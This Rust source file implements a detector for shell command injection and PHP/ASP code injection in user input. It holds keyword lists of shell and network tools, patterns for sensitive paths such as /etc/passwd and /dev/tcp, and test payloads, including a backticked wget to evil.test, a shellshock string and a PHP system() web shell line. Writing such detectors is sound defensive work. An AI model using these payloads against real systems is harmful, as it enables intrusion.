//! OS command injection: the shell grammar around a command word.
//!
//! A command word only counts where a shell would start a command: after `;`, `|`, `&`, `&&`,
//! `||`, a newline, inside `` `…` `` or `$(…)`. The word is read the way the shell reads it
//! (quotes and backslashes removed, `$IFS` as a space, a path reduced to its base name), so
//! `c'a't`, `/bin/cat` and `cat${IFS}/etc/passwd` are the same command. A word after a separator
//! must also be followed by something argument-like unless it is unambiguous (`wget`, `whoami`),
//! so "rock & roll; set the table" stays benign. Also: shellshock, server-side includes, and
//! `$((…))` arithmetic probes. [`code`] covers server-side code and deserialisation.

/// Commands that are never English words.
fn strong(w: &str) -> bool {
    matches!(
        w,
        "wget"
            | "curl"
            | "nc"
            | "ncat"
            | "netcat"
            | "bash"
            | "sh"
            | "zsh"
            | "ksh"
            | "dash"
            | "csh"
            | "tcsh"
            | "busybox"
            | "uname"
            | "whoami"
            | "getent"
            | "nslookup"
            | "ifconfig"
            | "ipconfig"
            | "netstat"
            | "passwd"
            | "chmod"
            | "chown"
            | "crontab"
            | "nohup"
            | "sudo"
            | "socat"
            | "mkfifo"
            | "python"
            | "python2"
            | "python3"
            | "perl"
            | "ruby"
            | "php"
            | "node"
            | "lua"
            | "powershell"
            | "pwsh"
            | "cmd"
            | "certutil"
            | "bitsadmin"
            | "wmic"
            | "rundll32"
            | "regsvr32"
            | "mshta"
            | "cscript"
            | "wscript"
            | "systeminfo"
            | "tasklist"
            | "taskkill"
            | "useradd"
            | "usermod"
            | "telnet"
            | "tftp"
            | "xxd"
            | "base64"
            | "printf"
            | "ping"
            | "dig"
            | "id"
            | "ls"
            | "cat"
            | "pwd"
            | "ps"
            | "env"
            | "rev"
            | "xargs"
            | "awk"
            | "sed"
            | "grep"
            | "uptime"
            | "hostname"
            | "net"
            | "reg"
            | "whoami.exe"
            | "cmd.exe"
            | "powershell.exe"
            | "nmap"
            | "ssh"
            | "scp"
            | "ftp"
            | "tar"
            | "gzip"
            | "rm"
            | "mv"
            | "cp"
            | "touch"
            | "chroot"
            | "kill"
            | "killall"
            | "pkill"
            | "sleep"
            | "timeout"
            | "expr"
            | "eval"
            | "exec"
            | "source"
            | "export"
            | "unset"
            | "ulimit"
            | "lsof"
            | "ver"
            | "dir"
    )
}

/// Commands that are also English words: only with shell-like arguments.
fn weak(w: &str) -> bool {
    matches!(
        w,
        "echo"
            | "set"
            | "type"
            | "find"
            | "head"
            | "tail"
            | "more"
            | "less"
            | "host"
            | "test"
            | "sort"
            | "uniq"
            | "tee"
            | "cut"
            | "date"
            | "who"
            | "w"
            | "file"
            | "start"
            | "call"
            | "copy"
            | "del"
            | "move"
            | "ren"
            | "print"
            | "open"
            | "read"
            | "wait"
            | "trap"
            | "true"
            | "false"
            | "yes"
            | "nl"
            | "od"
            | "strings"
            | "which"
            | "whereis"
            | "locate"
            | "mail"
            | "at"
    )
}

fn is_sep(b: u8) -> bool {
    matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`')
}

/// Reads a shell word from `b[i..]`: quotes and backslashes dropped, `$IFS`/`${IFS}`/`$9` as a
/// word break. Returns the word (lower-case, base name of a path) and the index after it.
fn shell_word(b: &[u8], mut i: usize) -> (Word, usize) {
    // Skip blanks and `$IFS`-style blanks.
    loop {
        while i < b.len() && matches!(b[i], b' ' | b'\t' | b'{' | b'(' | b'!' | b'+') {
            i += 1;
        }
        if let Some(n) = ifs_len(&b[i..]) {
            i += n;
            continue;
        }
        break;
    }
    let mut w = Word::default();
    while i < b.len() && w.len < 64 {
        let c = b[i];
        if matches!(c, b'\'' | b'"' | b'\\') {
            i += 1;
            continue;
        }
        if c == b'$' {
            if ifs_len(&b[i..]).is_some() {
                break;
            }
            if b.get(i + 1) == Some(&b'@') {
                i += 2;
                continue;
            }
        }
        if c.is_ascii_whitespace() || is_sep(c) || matches!(c, b'<' | b'>' | b'(' | b')' | b'$' | b',' | b'{' | b'}') {
            break;
        }
        if c == b'/' {
            // Keep only the base name of a path.
            w.len = 0;
        } else {
            w.buf[w.len] = c.to_ascii_lowercase();
            w.len += 1;
        }
        i += 1;
    }
    (w, i)
}

/// A shell word, lower-cased, base name only, at most 64 bytes (no allocation).
struct Word {
    buf: [u8; 64],
    len: usize,
}

impl Default for Word {
    fn default() -> Self {
        Self { buf: [0; 64], len: 0 }
    }
}

impl Word {
    fn is_empty(&self) -> bool {
        self.len == 0
    }

    fn as_str(&self) -> &str {
        std::str::from_utf8(&self.buf[..self.len]).unwrap_or("")
    }
}

/// Length of `$IFS`, `${IFS}`, `$IFS$9` (shell blanks) at the start of `b`.
fn ifs_len(b: &[u8]) -> Option<usize> {
    let n = if b.starts_with(b"${IFS}") {
        6
    } else if b.starts_with(b"$IFS") {
        4
    } else {
        return None;
    };
    let extra = if b.get(n) == Some(&b'$') && b.get(n + 1).is_some_and(u8::is_ascii_digit) { 2 } else { 0 };
    Some(n + extra)
}

/// What follows a command word looks like shell arguments.
fn args_look_shell(b: &[u8], i: usize) -> bool {
    let rest = &b[i.min(b.len())..];
    let mut j = 0;
    while j < rest.len() && matches!(rest[j], b' ' | b'\t' | b'+') {
        j += 1;
    }
    if ifs_len(&rest[j..]).is_some() {
        return true;
    }
    match rest.get(j) {
        None => true,
        Some(c) if is_sep(*c) => true,
        Some(b'-' | b'/' | b'\\' | b'$' | b'>' | b'<' | b'\'' | b'"' | b'*' | b'~' | b'%' | b'.') => true,
        Some(c) if c.is_ascii_digit() => rest[j..].iter().take(20).any(|c| matches!(c, b'.' | b'*' | b'/')),
        Some(c) if c.is_ascii_alphabetic() => {
            rest.get(j + 1) == Some(&b':') && matches!(rest.get(j + 2), Some(b'\\' | b'/'))
        }
        _ => false,
    }
}

fn sensitive_arg(rest: &[u8]) -> bool {
    let l: Vec<u8> =
        rest.iter().take(256).filter(|c| !matches!(c, b'\'' | b'"' | b'\\')).map(u8::to_ascii_lowercase).collect();
    let find = |n: &[u8]| memchr::memmem::find(&l, n).is_some();
    let etc = memchr::memmem::find_iter(&l, b"/etc").any(|p| l.get(p + 4).is_none_or(|c| b"/ ;|&".contains(c)));
    etc || find(b"/bin/")
        || find(b"/dev/tcp")
        || find(b"/proc/")
        || find(b"/tmp/")
        || find(b"c:/windows")
        || find(b"c:\\windows")
        || find(b"http://")
        || find(b"https://")
        || find(b"/var/")
}

/// A Markdown code fence at `b[i]`: three or more backticks opening a line, then an optional info
/// word (`python`, `c++`) and the end of the line or value. Returns the index after the fence. To a
/// shell that would be an empty substitution followed by one running the info word (`python`), but
/// it is how every Markdown editor quotes code; a backtick payload cannot end its line there.
fn markdown_fence(b: &[u8], i: usize) -> Option<usize> {
    if i > 0 && b[i - 1] != b'\n' {
        return None;
    }
    let run = b[i..].iter().take_while(|c| **c == b'`').count();
    if run < 3 {
        return None;
    }
    let info = b[i + run..]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'+' | b'.' | b'#'))
        .count();
    let end = i + run + info;
    matches!(b.get(end), None | Some(b'\n' | b'\r')).then_some(end)
}

/// Shell command injection.
#[must_use]
pub fn detect(s: &str) -> Option<&'static str> {
    detect_classes(s, true, crate::features::of(s))
}

/// [`detect`]; with `full` false only the command at the very start is checked (the caller has
/// shown the value has no separator, backtick, `$(`, `()` or `<!`, without which nothing else can
/// match). `f`: `s`'s [`crate::features::of`]; its two-byte classes `()`, `<!` and `$(` stand in
/// for searching for the constructs that hold them.
pub(crate) fn detect_classes(s: &str, full: bool, f: u64) -> Option<&'static str> {
    use crate::features as F;
    let b = s.as_bytes();
    if !full {
        return start_command(b);
    }
    // `() {` and `(){` hold `()`.
    if f & F::EMPTYPAREN != 0
        && (memchr::memmem::find(b, b"() {").is_some() || memchr::memmem::find(b, b"(){").is_some())
        && (s.contains(":;") || s.contains("; }") || s.contains(":; }"))
    {
        return Some("cmdi-shellshock");
    }
    // `<!--#` holds `<!`.
    if f & F::LTSPECIAL != 0 && memchr::memmem::find(b, b"<!--#").is_some() {
        let l = s.to_ascii_lowercase();
        if ["<!--#exec", "<!--#include", "<!--#echo", "<!--#config", "<!--#printenv", "<!--#set", "<!--#fsize"]
            .iter()
            .any(|d| l.contains(d))
        {
            return Some("cmdi-ssi");
        }
    }
    // `$((` holds `$(`.
    if f & F::DOLLARPAREN != 0 && memchr::memmem::find(b, b"$((").is_some() {
        return Some("cmdi-subst");
    }
    // Command positions.
    let mut positions = 0;
    let mut i = 0;
    while i < b.len() {
        // Jump to the next byte that can open a command position: a separator (backtick
        // included) or the `$` of `$(`.
        let Some(p) = b[i..].iter().position(|&c| is_sep(c) || c == b'$') else {
            break;
        };
        i += p;
        let c = b[i];
        if c == b'`'
            && let Some(end) = markdown_fence(b, i)
        {
            i = end;
            continue;
        }
        let (start, subst) = if c == b'`' {
            (i + 1, true)
        } else if c == b'$' && b.get(i + 1) == Some(&b'(') {
            (i + 2, true)
        } else if is_sep(c) {
            let mut j = i + 1;
            while j < b.len() && matches!(b[j], b'|' | b'&' | b';') {
                j += 1;
            }
            (j, false)
        } else {
            i += 1;
            continue;
        };
        positions += 1;
        if positions > 4096 {
            break;
        }
        let (w, end) = shell_word(b, start);
        if !w.is_empty() {
            let strong = strong(w.as_str());
            let weak = weak(w.as_str());
            if subst && (strong || weak && args_look_shell(b, end)) {
                return Some("cmdi-subst");
            }
            if strong && (args_look_shell(b, end) || sensitive_arg(&b[end..])) {
                return Some("cmdi-separator");
            }
            if weak && args_look_shell(b, end) && b.get(end).is_some() {
                return Some("cmdi-separator");
            }
        }
        i = start.max(i + 1);
    }
    start_command(b)
}

/// A command at the very start with a sensitive argument (`cat /etc/passwd`, `wget http://…`).
fn start_command(b: &[u8]) -> Option<&'static str> {
    let (w, end) = shell_word(b, 0);
    let w = w.as_str();
    if !w.is_empty() && (strong(w) || weak(w)) {
        let rest = &b[end..];
        let next_is_space = rest.first().is_some_and(|c| *c == b' ' || *c == b'\t') || ifs_len(rest).is_some();
        if next_is_space && sensitive_arg(rest) && w != "at" && w != "w" {
            return Some("cmdi-sensitive-arg");
        }
    }
    None
}

/// Server-side code injection (PHP/ASP execution constructs) and unsafe deserialisation markers.
pub mod code {
    use std::sync::LazyLock;

    use aho_corasick::{AhoCorasick, AhoCorasickBuilder};

    const CALLS: &[&str] = &[
        "system(",
        "passthru(",
        "shell_exec(",
        "proc_open(",
        "popen(",
        "pcntl_exec(",
        "phpinfo(",
        "assert(",
        "base64_decode(",
        "file_get_contents(",
        "file_put_contents(",
        "fsockopen(",
        "call_user_func(",
        "create_function(",
        "preg_replace(",
        "response.write(",
        "createobject(",
        "wscript.shell",
        "runtime.getruntime",
        "processbuilder(",
        "__import__(",
        "os.system(",
        "subprocess.",
        "execute(",
        "eval(",
    ];

    static CALLS_AC: LazyLock<Option<AhoCorasick>> =
        LazyLock::new(|| AhoCorasickBuilder::new().ascii_case_insensitive(true).build(CALLS).ok());

    fn has_ci(b: &[u8], n: &[u8]) -> bool {
        b.windows(n.len()).any(|w| w.eq_ignore_ascii_case(n))
    }

    /// Whether `s` carries server-side code or a deserialisation gadget marker.
    #[must_use]
    pub fn detect(s: &str) -> Option<&'static str> {
        let b = s.as_bytes();
        let bang = memchr::memchr(b'!', b).is_some();
        if bang && (has_ci(b, b"!!python/") || has_ci(b, b"!ruby/") || has_ci(b, b"!!javax.") || has_ci(b, b"!!java."))
            || b.windows(5).any(|w| w == b"rO0AB")
            || memchr::memchr(b':', b).is_some() && has_ci(b, b"o:8:\"stdclass\"")
        {
            return Some("code-deser");
        }
        let lt_or_dollar = memchr::memchr2(b'<', b'$', b).is_some();
        if lt_or_dollar
            && (has_ci(b, b"<?php")
                || memchr::memmem::find(b, b"<?=").is_some()
                || memchr::memmem::find(b, b"${@").is_some())
        {
            return Some("code-php");
        }
        memchr::memchr(b'(', b)?;
        if has_ci(b, b"on error resume next") && has_ci(b, b"response.") {
            return Some("code-php");
        }
        let ac = CALLS_AC.as_ref()?;
        let mut calls = 0;
        let mut execute = false;
        for m in ac.find_iter(s).take(64) {
            let name = CALLS[m.pattern().as_usize()];
            if name == "execute(" || name == "eval(" {
                execute = true;
            } else {
                calls += 1;
            }
        }
        // One call alone is a code snippet in a ticket; code-injection payloads chain them or
        // sit in PHP/ASP delimiters.
        let php_vars = memchr::memchr(b';', b).is_some() && memchr::memchr(b'$', b).is_some();
        (calls >= 2 || calls == 1 && (php_vars || execute)).then_some("code-php")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks() {
        for a in [
            "x; id",
            "a | whoami",
            "1.2.3.4 && c'a't /e't'c/hosts",
            "q;uname${IFS}-a",
            "`wget http://evil.test/x`",
            "$(sleep 9)",
            "() { :; }; /bin/true",
            "<!--#exec cmd=\"ls\" -->",
            "foo\nnetstat -an",
            "y|type C:\\boot.ini",
            "cat /etc/hosts",
            "z;echo$IFS$((7*7))",
            "```python -c 'import pty'```",
            "x\n```id```",
            "x```wget http://evil.test/x```",
        ] {
            assert!(detect(a).is_some(), "missed {a:?}");
        }
        assert!(code::detect("!!python/object/apply:os.system ['id']").is_some());
        assert!(code::detect("<?php system($_GET['c']); ?>").is_some());
    }

    #[test]
    fn benign() {
        for b in [
            "echo in the mirror",
            "ls 300 lexus",
            "nc 8000 controller",
            "Tom & Jerry",
            "rock & roll; set the table",
            "R&D | Q&A",
            "The parameter 5 is&|.",
            "I would like to cat-sit; more info later",
            "Please find attached; thanks",
            "bash away in the gym",
            "DELETE 75oBC$",
            "cost: $(5 + tax)",
            "```python\nfor row in rows:\n    print(row)\n```",
            "Example:\r\n```perl\r\nmy $x = 1;\r\n```",
        ] {
            assert!(detect(b).is_none(), "false positive {b:?}: {:?}", detect(b));
        }
        assert!(code::detect("use system() carefully").is_none());
    }
}
